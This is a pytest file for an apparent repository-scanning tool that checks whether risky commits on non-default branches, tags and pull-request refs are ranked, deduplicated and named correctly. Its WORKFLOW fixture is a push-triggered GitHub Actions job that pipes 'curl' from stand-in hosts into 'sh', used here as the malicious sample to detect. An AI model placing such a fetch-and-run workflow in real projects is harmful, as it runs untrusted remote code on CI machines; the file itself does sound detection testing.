"""Every branch, tag and pull request of a clone is looked through, and look-alikes are one."""

import pytest

from gitstory import BO, Story
from knownhands.assess.sweep import sweep_refs
from knownhands.errors import NotFound
from knownhands.score import Score

WORKFLOW = "on: push\njobs:\n  fire:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://{}/kiln | sh\n"


@pytest.fixture
def sweep(opened):
    """What sweeps the refs of the story as it stands."""

    def now(limit: int = 99) -> list[Score]:
        with opened() as history:
            return sweep_refs(history, limit=limit)

    return now


@pytest.fixture
def begun(story: Story) -> Story:
    """A default branch of three changes."""
    for number in range(3):
        story.commit({"wheel.py": f"{number}\n"}, f"Spin {number}")
    return story


def attack(story: Story, branch: str, host: str = "kettle.example") -> str:
    """Commit a workflow that runs what it downloads on a branch of its own, which starts at the default branch."""
    story.branch(branch, "refs/heads/main")
    sha = story.commit({f".github/workflows/{branch}.yml": WORKFLOW.format(host)}, f"Glaze {branch}", by=BO)
    story.switch("main")
    return sha


def harmless(story: Story, branch: str) -> str:
    story.branch(branch, "refs/heads/main")
    sha = story.commit({"wheel.py": f"{branch}\n"}, f"Spin {branch}")
    story.switch("main")
    return sha


def test_what_the_default_branch_lacks_is_listed_riskiest_first(begun: Story, sweep) -> None:
    harmless(begun, "aside")
    bad = attack(begun, "kiln")
    swept = sweep()
    assert [score.subject.title for score in swept] == ["Glaze kiln", "Spin aside"]
    assert swept[0].subject.head == bad
    assert (swept[0].subject.base, swept[0].as_of) == (begun.head, begun.head)
    shares = [score.concerns[0].alarm_share for score in swept]
    assert shares[0] < shares[1]
    assert "On refs/heads/kiln." in swept[0].header


def test_branches_that_hold_the_same_line_are_one_row_and_say_how_many(begun: Story, sweep) -> None:
    shas = {attack(begun, name) for name in ("cup", "pot", "plate")}
    other = attack(begun, "moon", "moon.example")
    swept = sweep()
    alike = next(score for score in swept if score.subject.head in shas)
    assert {score.subject.head for score in swept} == {alike.subject.head, other}
    assert "2 more commits show the same." in alike.header
    assert "same" not in next(score for score in swept if score.subject.head == other).header


def test_a_commit_on_several_refs_counts_once_and_they_are_named(begun: Story, sweep) -> None:
    bad = attack(begun, "kiln")
    for name in ("refs/tags/v1", "refs/pull/7/head", "refs/heads/also", "refs/heads/too"):
        begun.point(name, bad)
    (score,) = sweep()
    assert score.subject.head == bad
    assert "On refs/heads/also, refs/heads/kiln, refs/heads/too and 2 more refs." in score.header
    assert "same" not in score.header


def test_asking_for_fewer_gives_the_riskiest(begun: Story, sweep) -> None:
    harmless(begun, "aside")
    bad = attack(begun, "kiln")
    assert [score.subject.head for score in sweep(limit=1)] == [bad]


def test_what_the_default_branch_holds_is_not_swept_and_makes_it_more_ordinary(begun: Story, sweep) -> None:
    before = attack(begun, "kiln")
    rare = sweep()[0].concerns[0].alarm_share
    for name in ("cup", "pot"):
        begun.commit({f".github/workflows/{name}.yml": WORKFLOW.format("kettle.example")}, f"Glaze {name}")
    later = attack(begun, "late")
    begun.git("update-ref", "-d", "refs/heads/kiln")
    (score,) = sweep()
    assert score.subject.head == later != before
    assert score.concerns[0].alarm_share > rare


@pytest.mark.parametrize("extra", [(), ("refs/heads/also", "refs/tags/v1")], ids=["one branch", "refs to the same"])
def test_a_clone_without_other_refs_has_nothing_to_sweep(begun: Story, sweep, extra: tuple[str, ...]) -> None:
    for name in extra:
        begun.point(name, begun.head)
    with pytest.raises(NotFound, match="No branch, tag or pull request") as caught:
        sweep()
    assert "git fetch" in caught.value.hint


def test_a_root_of_its_own_and_a_merge_are_swept_without_harm(begun: Story, sweep) -> None:
    begun.orphan("root")
    root = begun.commit({".github/workflows/x.yml": WORKFLOW.format("kettle.example")}, "Glaze anew")
    begun.switch("main")
    merged = attack(begun, "kiln", "moon.example")
    begun.branch("both", "refs/heads/main")
    begun.merge("kiln")
    begun.switch("main")
    assert {score.subject.head for score in sweep()} == {root, merged}
